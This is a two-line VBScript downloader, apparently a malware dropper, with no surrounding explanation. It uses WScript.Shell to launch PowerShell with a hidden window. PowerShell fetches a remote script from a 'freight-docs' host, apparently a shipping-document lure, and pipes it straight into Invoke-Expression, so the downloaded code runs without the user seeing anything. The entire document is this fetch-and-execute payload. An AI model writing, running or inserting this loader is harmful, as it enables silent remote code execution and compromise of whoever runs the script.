Set x = CreateObject("WScript.Shell")
x.Run "powershell -w hidden -c iwr https://cdn.freight-docs.example/a.ps1 | iex", 0
